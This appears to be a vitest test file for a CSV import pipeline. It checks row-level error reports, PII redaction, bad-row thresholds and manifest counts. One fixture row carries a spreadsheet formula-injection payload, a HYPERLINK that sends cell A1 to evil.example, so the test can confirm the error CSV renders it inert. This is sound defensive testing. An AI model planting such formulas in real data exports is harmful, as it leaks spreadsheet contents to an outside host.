/** Row validation end to end: errors as values with line, column and reason; PII never shown; bad-row allowances. */
import { describe, expect, it } from 'vitest';
import { fixture, HEADER, row, rowsOf, SLOW } from './helpers/fixture.js';

const SECRET = 'very.secret.person@example.com.invalid.tld';

/** Three bad rows among five: formulas, a PII value that is too long, an unknown currency and a bad date. */
const mixed = () => [
  row(1),
  row(2, { Quantity: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }),
  row(3, { ContactEmail: SECRET, Currency: 'XYZ' }),
  row(4),
  row(5, { Condition: '+1', LastModified: '2025-02-30T10:00:00Z' }),
];

/** A minimal CSV reader for the reports (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cell = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    }
    else cell += c;
  }
  return rows;
}

describe.concurrent('row validation errors', SLOW, () => {
  it('by default any bad row rejects the file; the report lists every error with line, column and reason', async (t) => {
    const fx = await fixture(t);
    await fx.makeDelivery({ seq: 1 });
    await fx.runOnce();
    const before = fx.rows();
    const d = await fx.makeDelivery({ seq: 2, rows: mixed() });
    const run = await fx.runOnce();
    expect(run.code).toBe(1);
    expect(fx.rows()).toEqual(before);
    const report = await fx.errorReport();
    expect(report).toMatchObject({ status: 'rejected', code: 'ROW_ERRORS', file: d.name, error_count: 5, errors_truncated: false });
    expect(report.reason).toMatch(/3 of 5 rows/);
    expect(report.errors.map((e: { line: number; column: string }) => [e.line, e.column])).toEqual([
      [3, 'Quantity'], [4, 'Currency'], [4, 'ContactEmail'], [6, 'Condition'], [6, 'LastModified'],
    ]);
    for (const e of report.errors) expect(e.reason).toEqual(expect.any(String));
    expect(fx.listDir('error')).toEqual([...d.files, `${d.name}.error.json`, `${d.name}.errors.csv`].sort());
  });

  it('the .errors.csv cannot start a formula in a spreadsheet', async (t) => {
    const fx = await fixture(t);
    const d = await fx.makeDelivery({ seq: 1, rows: mixed() });
    await fx.runOnce();
    const csv = await fx.readText('error', `${d.name}.errors.csv`);
    const cells = parseCsv(csv);
    expect(cells[0]).toEqual(['line', 'SKU', 'Warehouse', 'column', 'reason']); // the key columns name the row
    expect(cells).toHaveLength(6);
    for (const cell of cells.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain('HYPERLINK'); // shown to the partner, but inert
    expect(cells.find((r) => r[3] === 'Condition')?.[4]).toMatch(/^"\+1" is not one of/);
  });

  it('PII values never appear in the report, the line-error CSV or the logs', async (t) => {
    const fx = await fixture(t);
    const d = await fx.makeDelivery({ seq: 1, rows: mixed() });
    const run = await fx.runOnce();
    const report = await fx.readText('error', `${d.name}.error.json`);
    const csv = await fx.readText('error', `${d.name}.errors.csv`);
    expect(report).toContain('ContactEmail');
    for (const text of [report, csv, run.stdout, run.stderr]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain('very.secret');
    }
    // Non-PII values are shown, so the partner can find the row.
    expect(report).toContain('XYZ');
  });

  it('a structural error in a PII column does not quote the value either', async (t) => {
    const fx = await fixture(t);
    // Written by hand: a stray quote inside an unquoted field (csvLine would quote it properly).
    const lines = [HEADER.join(','), ...[row(1), row(2, { ContactEmail: `${SECRET}"` }), row(3)].map((r) => HEADER.map((h) => r[h]).join(','))];
    const d = await fx.makeDelivery({ seq: 1, csvText: `${lines.join('\n')}\n` });
    const run = await fx.runOnce();
    expect(run.code).toBe(1);
    const report = await fx.readText('error', `${d.name}.error.json`);
    expect(JSON.parse(report)).toMatchObject({ code: 'MALFORMED_CSV', reason: expect.stringMatching(/^line 3\b.*quote/) });
    for (const text of [report, run.stdout, run.stderr]) expect(text).not.toContain('very.secret');
  });

  it('max_reported_errors caps the list, not the count', async (t) => {
    const fx = await fixture(t, { flow: { max_reported_errors: 3 } });
    const rows = Array.from({ length: 10 }, (_, i) => row(i + 1, { Quantity: 'n/a' }));
    const d = await fx.makeDelivery({ seq: 1, rows });
    expect((await fx.runOnce()).code).toBe(1);
    const report = await fx.errorReport();
    expect(report).toMatchObject({ code: 'ROW_ERRORS', error_count: 10, errors_truncated: true });
    expect(report.errors.map((e: { line: number }) => e.line)).toEqual([2, 3, 4]);
    expect((await fx.readText('error', `${d.name}.errors.csv`)).trim().split('\r\n')).toHaveLength(4);
  });

  it('a value with an invisible character in it is quoted with the character made visible', async (t) => {
    const fx = await fixture(t);
    await fx.makeDelivery({ seq: 1, rows: [row(1, { Quantity: '12\u200B' }), row(2, { Condition: '\u202EWEN' })] });
    expect((await fx.runOnce()).code).toBe(1);
    expect((await fx.errorReport()).errors.map((e: { reason: string }) => e.reason)).toEqual([
      '"12<U+200B>" is not an integer', '"<U+202E>WEN" is not one of NEW, USED, REFURBISHED',
    ]);
  });

  it('a required column left empty is a row error', async (t) => {
    const fx = await fixture(t);
    await fx.makeDelivery({ seq: 1, rows: [row(1, { LastModified: '' }), row(2, { Warehouse: '' })] });
    expect((await fx.runOnce()).code).toBe(1);
    const report = await fx.errorReport();
    expect(report.errors).toMatchObject([
      { line: 2, column: 'LastModified', reason: expect.stringMatching(/required/i) },
      { line: 3, column: 'Warehouse', reason: expect.stringMatching(/required/i) },
    ]);
  });
});

describe.concurrent('a flow that tolerates bad rows', SLOW, () => {
  it('max_bad_rows 3: good rows applied, bad ones listed with the ACK, status accepted_with_errors', async (t) => {
    const fx = await fixture(t, { flow: { max_bad_rows: 3 } });
    const d = await fx.makeDelivery({ seq: 1, rows: mixed() });
    const run = await fx.runOnce();
    expect(run.code).toBe(0);
    expect(fx.rows().map((r) => r.sku)).toEqual(['A-101', 'A-104']);
    const ack = await fx.readJson('outbox', `${d.name}.ack.json`);
    expect(ack).toMatchObject({ status: 'accepted_with_errors', records: 5, rows_applied: 2, rows_rejected: 3, error_count: 5 });
    expect(ack.errors).toHaveLength(5);
    expect(JSON.stringify(ack)).not.toContain(SECRET);
    expect(fx.listDir('outbox')).toEqual([`${d.name}.ack.json`, `${d.name}.errors.csv`]);
    expect(fx.listDir('archive')).toEqual([...d.files].sort());
    expect(fx.query('SELECT outcome, records, bad_rows FROM deliveries')).toEqual([{ outcome: 'accepted', records: 5, bad_rows: 3 }]);
  });

  it('one bad row more than allowed rejects the file and applies nothing', async (t) => {
    const fx = await fixture(t, { flow: { max_bad_rows: 2 } });
    await fx.makeDelivery({ seq: 1, rows: mixed() });
    expect((await fx.runOnce()).code).toBe(1);
    expect(await fx.errorReport()).toMatchObject({ code: 'ROW_ERRORS', error_count: 5 });
    expect(fx.rows()).toEqual([]);
  });

  it('a percentage: "10%" of 20 rows allows 2', async (t) => {
    const fx = await fixture(t, { flow: { max_bad_rows: '10%' } });
    const rows = rowsOf(20);
    rows[4]!.Quantity = 'x';
    rows[9]!.Quantity = 'y';
    await fx.makeDelivery({ seq: 1, rows });
    expect((await fx.runOnce()).code).toBe(0);
    expect(fx.rows()).toHaveLength(18);
    rows[14]!.Quantity = 'z';
    await fx.makeDelivery({ seq: 2, rows });
    expect((await fx.runOnce()).code).toBe(1);
    expect(await fx.errorReport()).toMatchObject({ code: 'ROW_ERRORS' });
  });

  it('the manifest record count is checked against all rows read, bad ones included', async (t) => {
    const fx = await fixture(t, { flow: { max_bad_rows: 3 } });
    await fx.makeDelivery({ seq: 1, rows: mixed(), manifest: { records: 2 } });
    expect((await fx.runOnce()).code).toBe(1);
    expect(await fx.errorReport()).toMatchObject({ code: 'RECORD_COUNT_MISMATCH' });
    expect(fx.rows()).toEqual([]);
    expect(fx.listDir('outbox')).toEqual([]);
  });
});
